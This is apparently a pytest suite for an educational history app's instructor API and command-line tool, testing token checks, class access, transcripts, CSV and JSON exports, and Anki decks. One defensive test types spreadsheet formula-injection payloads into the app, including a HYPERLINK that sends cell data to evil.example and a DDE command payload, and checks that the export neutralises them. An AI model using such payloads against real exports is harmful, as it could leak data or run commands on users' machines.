"""The instructor API and CLI: tokens, class boundaries, transcripts, exports."""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from server.anki import MARKS_KEY
from server.cli import main
from server.store import hash_token
from server.store_sqlite import SQLiteStore
from tests.server.conftest import OTHER_TOKEN, SEED, TEACHER_TOKEN

TEACHER = {"Authorization": f"Bearer {TEACHER_TOKEN}"}
OTHER = {"Authorization": f"Bearer {OTHER_TOKEN}"}
NAMES = {"kissinger": "Henry Kissinger", "dobrynin": "Anatoly Dobrynin"}
CITATION = (
    "FRUS 1969–1976, vol. XXXIX, doc. 107, {pages} · National Archives, Nixon Presidential "
    "Materials, Kissinger Telephone Conversations, Box 27, Anatoli Dobrynin File. No "
    "classification marking."
)
LINE = (
    "Anatol, about this morning: we might accept an exploratory meeting of ambassadors in Geneva."
)


def run_session(client: TestClient, fixture_corpus: Any, student: str, code: str) -> dict:
    """A student's session over the app: one role-play line, a two-question quiz (1 of 2)."""
    with client.websocket_connect("/ws") as ws:
        ws.send_json({"type": "hello", "student": student, "class": code})
        welcome = ws.receive_json()
        ws.send_json({"type": "roleplay.start", "as": "kissinger", "document": None})
        ws.receive_json()
        ws.send_json({"type": "say", "text": LINE})
        reply = ws.receive_json()
        ws.send_json(
            {"type": "quiz.start", "mode": "who_said", "count": 2, "document": SEED, "seed": 1}
        )
        question = ws.receive_json()
        prompt = question["prompt"]
        truth = fixture_corpus.document(prompt["document"]).turns[prompt["turn"]].speaker
        ws.send_json({"type": "quiz.answer", "id": "q1", "answer": truth})
        ws.receive_json()
        asked = ws.receive_json()
        second = asked["prompt"]
        prompts = [prompt["text"], second["text"]]
        levels = [question["level"], asked["level"]]  # each line's difficulty, as told
        prompt = second
        truth = fixture_corpus.document(prompt["document"]).turns[prompt["turn"]].speaker
        wrong = "dobrynin" if truth == "kissinger" else "kissinger"
        ws.send_json({"type": "quiz.answer", "id": "q2", "answer": wrong})
        result = ws.receive_json()
        ws.receive_json()
    missed = (prompt["document"], prompt["turn"])
    return {
        "welcome": welcome,
        "reply": reply,
        "result": result,
        "prompts": prompts,
        "levels": levels,
        "missed": missed,
    }


@pytest.fixture
def seeded(client: TestClient, fixture_corpus: Any) -> dict:
    return {
        "ada": run_session(client, fixture_corpus, "Ada", "HIST210"),
        "kim": run_session(client, fixture_corpus, "Kim", "IR101"),
    }


def test_me_lists_own_classes(client: TestClient) -> None:
    assert client.get("/api/me", headers=TEACHER).json() == {"name": "Ruiz", "classes": ["HIST210"]}


@pytest.mark.parametrize(
    "headers",
    [{}, {"Authorization": "Bearer bci_wrong"}, {"Authorization": "Basic dXNlcjpwdw=="}],
)
def test_instructor_calls_without_valid_token_get_401(client: TestClient, headers: dict) -> None:
    for path in ("/api/me", "/api/classes", "/api/classes/HIST210/sessions"):
        response = client.get(path, headers=headers)
        assert response.status_code == 401, path
        assert response.json() == {"detail": "Missing or invalid bearer token."}


def test_student_resume_token_reads_nothing(client: TestClient, seeded: dict) -> None:
    token = seeded["ada"]["welcome"]["resume"]
    response = client.get(
        "/api/classes/HIST210/sessions", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 401


def test_other_instructors_class_gets_403(client: TestClient, seeded: dict) -> None:
    kim = seeded["kim"]["welcome"]["session"]
    for path in (
        "/api/classes/IR101/sessions",
        "/api/classes/IR101/students",
        "/api/classes/IR101/export.csv",
        "/api/classes/IR101/export.json",
        f"/api/sessions/{kim}",
    ):
        response = client.get(path, headers=TEACHER)
        assert response.status_code == 403, path
        assert response.json() == {
            "detail": "You do not teach this class; one of its instructors can share it with you."
        }
    assert client.get("/api/classes/NOPE/sessions", headers=TEACHER).status_code == 404


def test_class_sessions_count_lines_and_quiz(client: TestClient, seeded: dict) -> None:
    sessions = client.get("/api/classes/hist210/sessions", headers=TEACHER).json()
    assert len(sessions) == 1
    ada = sessions[0]
    assert (ada["id"], ada["student"], ada["lines"], ada["quiz_score"], ada["quiz_total"]) == (
        seeded["ada"]["welcome"]["session"],
        "Ada",
        1,
        1,
        2,
    )
    assert ada["ended"] is not None and ada["ended"] >= ada["started"]
    classes = client.get("/api/classes", headers=TEACHER).json()
    assert classes == [
        {
            "code": "HIST210",
            "students": 1,
            "sessions": 1,
            "scenario": None,
            "strict": False,
            "instructors": ["Ruiz"],
            "last_session_started": ada["started"],
        }
    ]
    students = client.get("/api/classes/HIST210/students", headers=TEACHER).json()
    assert [(s["student"], s["sessions"], s["lines"], s["quiz_score"]) for s in students] == [
        ("Ada", 1, 1, 1)
    ]


def test_session_transcript_has_replies_with_citations(client: TestClient, seeded: dict) -> None:
    session_id = seeded["ada"]["welcome"]["session"]
    body = client.get(f"/api/sessions/{session_id}", headers=TEACHER).json()
    assert (body["student"], body["class"]) == ("Ada", "HIST210")
    kinds = [e["kind"] for e in body["events"]]
    assert kinds[:4] == ["connect", "roleplay.start", "line", "reply"]
    assert kinds.count("quiz.result") == 2 and kinds[-2:] == ["quiz.summary", "disconnect"]
    line, reply = body["events"][2], body["events"][3]
    assert line["data"]["text"] == LINE
    sent = seeded["ada"]["reply"]
    assert reply["data"]["matches"] == sent["matches"]
    assert reply["data"]["score"] == sent["matches"][0]["score"]
    assert reply["data"]["matches"][0]["citation"]["url"].endswith("frus1969-76v39/d107")


def test_export_csv_parses_back(client: TestClient, seeded: dict) -> None:
    response = client.get("/api/classes/HIST210/export.csv", headers=TEACHER)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="HIST210.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["activity"], r["status"]) for r in rows] == [
        ("free", "match"),
        ("quiz.who_said", ""),
        ("quiz.who_said", ""),
    ]
    reply, first, second = rows
    assert (reply["student"], reply["session"]) == ("Ada", seeded["ada"]["welcome"]["session"])
    assert reply["line"] == LINE
    best = seeded["ada"]["reply"]["matches"][0]
    assert reply["matched_line"] == best["prompt"]["text"]
    assert reply["turn"] == str(best["prompt"]["turn"])
    assert reply["reply"] == best["reply"]["text"]
    assert float(reply["score"]) == best["score"]
    assert (reply["document"], reply["pages"], reply["url"]) == (
        SEED,
        " ".join(str(p) for p in best["citation"]["pages"]),
        best["citation"]["url"],
    )
    assert (first["correct"], second["correct"]) == ("true", "false")
    assert {first["answer"], first["right_answer"]} <= {"Henry Kissinger", "Anatoly Dobrynin"}
    assert second["answer"] != second["right_answer"]
    assert [first["question"], second["question"]] == seeded["ada"]["prompts"]
    # each "Who said it?" line's difficulty as the student was told it: the file had none
    assert [first["level"], second["level"]] == seeded["ada"]["levels"]
    assert set(seeded["ada"]["levels"]) <= {"clear", "subtle"}
    assert reply["level"] == ""


def test_export_json_holds_every_event(client: TestClient, seeded: dict) -> None:
    response = client.get("/api/classes/HIST210/export.json", headers=TEACHER)
    body = json.loads(response.content)
    assert body["class"] == "HIST210"
    [session] = body["sessions"]
    direct = client.get(f"/api/sessions/{session['id']}", headers=TEACHER).json()
    # the export is the lesson as it went: what corrections do now is the transcript's alone
    assert direct.pop("corrections_now") == []
    # and whether its saved state (where it stood, for a resume) can be read, the transcript's
    assert direct.pop("unreadable_state") is None
    # and where a transcript read on from it stands (`?after=`)
    assert (direct.pop("after"), direct.pop("last_seq")) == (None, len(session["events"]))
    assert len(direct.pop("corrections_version")) == 16
    assert session == direct
    # each quiz answer says its line's difficulty, and the quiz's start the one it was started
    # at (none chosen: mixed)
    assert [q["level"] for q in session["quiz"]] == seeded["ada"]["levels"]
    [start] = [e for e in session["events"] if e["kind"] == "quiz.start"]
    assert (start["data"]["mode"], start["data"]["level"]) == ("who_said", None)


def test_export_is_sent_gzipped_to_a_browser_and_reads_the_same(
    client: TestClient, seeded: dict
) -> None:
    """A browser accepts gzip and is sent the export compressed; the JSON it saves is the one
    sent plain, and the response keeps its security headers."""
    path = "/api/classes/HIST210/export.json"
    gzipped = client.get(path, headers={**TEACHER, "Accept-Encoding": "gzip"})
    plain = client.get(path, headers={**TEACHER, "Accept-Encoding": "identity"})
    assert (gzipped.headers["content-encoding"], gzipped.headers["vary"]) == (
        "gzip",
        "Accept-Encoding",
    )
    assert "content-encoding" not in plain.headers
    assert gzipped.headers["cache-control"] == plain.headers["cache-control"] == "no-store"
    assert gzipped.num_bytes_downloaded < plain.num_bytes_downloaded / 3
    # the same export, but for the moment each was written
    sent, saved = json.loads(gzipped.content), json.loads(plain.content)
    assert sent.pop("exported") <= saved.pop("exported")
    assert sent == saved
    # a short answer goes as it is: compressing it would cost more than it saves
    small = client.get("/api/classes", headers={**TEACHER, "Accept-Encoding": "gzip"})
    assert len(small.content) < 1024 and "content-encoding" not in small.headers


def test_cli_instructor_add_prints_working_token(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["instructor", "add", "Lee", "--class", "HIST300", "--data", str(tmp_path)]) == 0
    token = capsys.readouterr().out.strip()
    assert token.startswith("bci_")
    store = SQLiteStore(tmp_path / "backchannel.sqlite3")
    assert store.instructor_by_token(hash_token(token)).classes == ("HIST300",)
    assert token not in (tmp_path / "backchannel.sqlite3").read_bytes().decode("latin-1")
    store.close()
    assert main(["instructor", "add", "Lee", "--class", "X1", "--data", str(tmp_path)]) == 2
    assert capsys.readouterr().err == (
        "backchannel instructor: An instructor named 'Lee' already exists; `backchannel "
        "instructor classes Lee --class CODE` gives them another class, `backchannel "
        "instructor token Lee` prints a new token.\n"
    )


def test_export_csv_neutralises_formulas_typed_by_a_student(client: TestClient) -> None:
    """The probe's payloads, typed through the WebSocket, arrive in the CSV as text."""
    name = '=HYPERLINK("http://evil.example/?x="&A2,"y")'
    line = "\t+cmd|' /C calc'!A0"  # hello and say strip the tab: "+cmd..." is what is stored
    with client.websocket_connect("/ws") as ws:
        ws.send_json({"type": "hello", "student": name, "class": "HIST210"})
        ws.receive_json()
        ws.send_json({"type": "roleplay.start", "as": "kissinger", "document": None})
        ws.receive_json()
        ws.send_json({"type": "say", "text": line})
        ws.receive_json()
    response = client.get("/api/classes/HIST210/export.csv", headers=TEACHER)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["student"], r["line"]) for r in rows] == [("'" + name, "'" + line.strip())]
    body = client.get("/api/classes/HIST210/export.json", headers=TEACHER).json()
    assert body["sessions"][0]["student"] == name  # the JSON keeps what was typed


@pytest.mark.parametrize(
    "code", ["HIST\r\n210", 'HIST"210', "HIST/210", "../x", "", "a b", "x" * 41, "é1", "HIST."]
)
def test_cli_refuses_class_codes_that_break_exports_or_routes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], code: str
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["instructor", "add", "Lee", "--class", code, "--data", str(tmp_path)])
    assert exited.value.code == 2
    assert f"argument --class: {code!r} is not a class code: use 1 to 40 letters" in (
        capsys.readouterr().err
    )
    assert not (tmp_path / "backchannel.sqlite3").exists()  # refused before the store opens


@pytest.mark.parametrize(
    "name",
    ["", "   ", "Prof.\nLee", "Lee\t(TA)", "x" * 101, "\u200b\u2060", "\u3164", " \u2800\u2800 "],
)
def test_cli_refuses_an_instructor_name_no_colleague_could_read_or_type(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    """ "" was registered and its token printed "for  (classes: none)"."""
    with pytest.raises(SystemExit) as exited:
        main(["instructor", "add", name, "--data", str(tmp_path)])
    assert exited.value.code == 2
    assert f"argument NAME: {name!r} is not an instructor's name: give the name colleagues" in (
        capsys.readouterr().err
    )
    assert not (tmp_path / "backchannel.sqlite3").exists()  # refused before the store opens


def test_cli_keeps_an_instructor_name_without_the_spaces_around_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["instructor", "add", "  Prof. Lee ", "--data", str(tmp_path)]) == 0
    assert "Bearer token for Prof. Lee (classes: none)." in capsys.readouterr().err
    assert main(["instructor", "list", "--data", str(tmp_path)]) == 0
    assert capsys.readouterr().out.splitlines()[0].split("\t")[0] == "Prof. Lee"


def test_cli_accepts_ordinary_class_codes(tmp_path: Path) -> None:
    codes = ["HIST210", "IR-101.2026", "hist_2"]
    args = ["instructor", "add", "Lee", "--data", str(tmp_path)]
    assert main([*args, *(x for c in codes for x in ("--class", c))]) == 0


def test_class_deck_holds_the_missed_quiz_item_then_the_exchange_met(
    client: TestClient, seeded: dict, fixture_corpus: Any, tmp_path: Path
) -> None:
    from tests.server.test_anki import notes

    got = client.get("/api/classes/HIST210/deck.apkg", headers=TEACHER)
    assert got.status_code == 200
    assert got.headers["content-disposition"] == 'attachment; filename="HIST210.apkg"'
    matched = seeded["ada"]["reply"]["matches"][0]["prompt"]
    assert (matched["document"], matched["turn"]) == (SEED, 0)
    document, turn = seeded["ada"]["missed"]
    asked = fixture_corpus.document(document).turns[turn]
    seed = fixture_corpus.document(SEED).turns
    link = f"https://history.state.gov/historicaldocuments/{SEED}"
    assert document == SEED  # the quiz asked from the seed
    assert [fields for _, fields in notes(got.content, tmp_path)] == [
        [
            f'<p class="ask">Who said this?</p><p>“{html.escape(asked.clean_text)}”</p>',
            f"<p><b>{NAMES[asked.speaker]}</b></p>",
            CITATION.format(pages=_pages(asked.pages)),
            link,
        ],
        [
            '<p class="ask">What did Dobrynin say next?</p>'
            f"<p><b>Henry Kissinger:</b> {html.escape(seed[0].clean_text)}</p>",
            # the editors' mark inside Dobrynin's reply is wrapped as theirs
            "<p><b>Anatoly Dobrynin:</b> What about the conference—this was a multilateral "
            '<span class="editorial">[omission in original transcript]</span> conference.</p>',
            CITATION.format(pages="p. 327") + MARKS_KEY,  # what the grey italic is
            link,
        ],
    ]
    # another instructor's class, and a class nobody has played in yet
    assert client.get("/api/classes/HIST210/deck.apkg", headers=OTHER).status_code == 403
    client.post("/api/classes", json={"code": "HIST299"}, headers=TEACHER).raise_for_status()
    empty = client.get("/api/classes/HIST299/deck.apkg", headers=TEACHER)
    assert empty.status_code == 404
    assert empty.json() == {
        "detail": "No deck for class HIST299 yet: its students have not been answered from the "
        "record nor missed a quiz item. Export it after they have played."
    }


def _pages(pages: list[int]) -> str:
    return f"p. {pages[0]}" if len(pages) == 1 else f"pp. {pages[0]}–{pages[-1]}"
